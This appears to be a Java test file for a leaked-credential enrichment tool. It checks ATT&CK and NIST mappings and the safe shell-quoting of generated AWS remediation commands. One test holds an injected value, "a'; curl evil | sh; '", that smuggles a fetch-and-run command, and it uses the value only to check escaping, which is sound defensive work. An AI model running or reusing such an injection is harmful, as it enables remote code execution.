package io.keywatch.enrich.knowledge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.keywatch.enrich.TestFindings;
import io.keywatch.schemas.v1.Attack;
import io.keywatch.schemas.v1.Finding;
import io.keywatch.schemas.v1.FindingClass;
import io.keywatch.schemas.v1.Surface;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

class KnowledgeTest {
    private static final Pattern TECHNIQUE = Pattern.compile("T1\\d{3}(\\.\\d{3})?");
    private static final Pattern CONTROL = Pattern.compile("[A-Z]{2}-\\d{1,2}(\\(\\d{1,2}\\))?");

    private final ControlMappings controls = ControlMappings.load();
    private final Remediations remediations = Remediations.load();

    @Test
    void knowsControlsAndRemedyForEveryClassAndPlace() {
        for (FindingClass findingClass : FindingClass.values()) {
            for (Surface surface : Surface.values()) {
                Finding finding = TestFindings.exposure("f", 1);
                finding.setFindingClass(findingClass);
                finding.getLocation().setSurface(surface);
                assertThat(remediations.of(finding).steps()).isNotEmpty().noneMatch(step -> step.contains("{b"));
                if (findingClass != FindingClass.UNKNOWN) {
                    assertThat(controls.of(finding).nist())
                            .isNotEmpty()
                            .allMatch(id -> CONTROL.matcher(id).matches());
                    assertThat(controls.of(finding).attack())
                            .allMatch(attack ->
                                    TECHNIQUE.matcher(attack.getTechnique()).matches());
                }
            }
        }
    }

    @Test
    void namesTheOldIdOfATechniqueThatMoved() {
        Finding finding = TestFindings.access("f", 1);
        finding.getRule().setId("trail-stopped");
        Attack attack = controls.of(finding).attack().getFirst();
        assertThat(attack.getTechnique()).isEqualTo("T1685.002");
        assertThat(attack.getAlias()).isEqualTo("T1562.008");
    }

    @Test
    void tellsAPrivateKeyFromOtherSecrets() {
        Finding finding = TestFindings.exposure("f", 1);
        assertThat(controls.of(finding).attack())
                .extracting(Attack::getTechnique)
                .containsExactly("T1552.001");
        finding.getSecret().setType("private-key");
        assertThat(controls.of(finding).attack())
                .extracting(Attack::getTechnique)
                .containsExactly("T1552.004");
    }

    @Test
    void firstRevokesThenCleansUp() {
        List<String> steps = remediations.of(TestFindings.exposure("f", 1)).steps();
        String key = "AKIA" + "Q".repeat(16);
        assertThat(steps.get(1)).contains("aws iam update-access-key").contains("--access-key-id " + key);
        assertThat(steps.getLast())
                .contains("aws s3api delete-object --bucket bucket --key config/app.env --version-id v1");
    }

    @Test
    void endsSessionsInsteadOfKeysForTemporaryCredentials() {
        Finding finding = TestFindings.exposure("f", 1);
        finding.getSecret().setAccessKeyId("ASIA" + "Q".repeat(16));
        assertThat(remediations.of(finding).steps())
                .anyMatch(step -> step.contains("aws:TokenIssueTime"))
                .noneMatch(step -> step.contains("update-access-key"));
    }

    @Test
    void quotesWhatAnAttackerMayHaveNamed() {
        Finding finding = TestFindings.exposure("f", 1);
        finding.getLocation().setKey("a'; curl evil | sh; '");
        assertThat(remediations.of(finding).steps().getLast()).contains("--key 'a'\\''; curl evil | sh; '\\'''");
        finding.getLocation().setKey("-rf");
        assertThat(remediations.of(finding).steps().getLast()).contains("--key '-rf'");
        finding.getLocation().setKey("a\u001b[2Jb");
        assertThat(remediations.of(finding).steps().getLast()).contains("--key 'a?[2Jb'");
    }

    @Property
    void quotingLeavesNoWayOut(@ForAll String value) {
        String quoted = StepText.quoted(value);
        String inside = quoted.replace("'\\''", "");
        boolean bare = quoted.matches("[A-Za-z0-9_./:@%+,-]+");
        boolean wrapped = inside.startsWith("'")
                && inside.endsWith("'")
                && inside.substring(1, inside.length() - 1).indexOf('\'') < 0;
        assertThat(bare || wrapped).isTrue();
        assertThat(quoted.chars()).noneMatch(Character::isISOControl);
    }

    @Test
    void leavesWhatIsUnknownVisible() {
        Finding finding = TestFindings.exposure("f", 1);
        finding.getLocation().setVersionId(null);
        assertThat(remediations.of(finding).steps().getLast()).contains("--version-id <version id>");
    }

    @Test
    void refusesAConditionThatMeansNothing() {
        assertThatThrownBy(() -> Condition.of(Map.of("rul", "x"))).hasMessageContaining("unknown condition rul");
    }

    @Property
    void matchesAsARegularExpressionWould(@ForAll("patterns") String pattern, @ForAll("texts") String text) {
        String regex = Pattern.quote(pattern).replace("*", "\\E.*\\Q");
        assertThat(new Glob(pattern).matches(text))
                .isEqualTo(Pattern.compile(regex, Pattern.DOTALL).matcher(text).matches());
    }

    @Provide
    Arbitrary<String> patterns() {
        return Arbitraries.strings().withChars("ab*").ofMaxLength(8);
    }

    @Provide
    Arbitrary<String> texts() {
        return Arbitraries.strings().withChars("ab").ofMaxLength(12);
    }
}
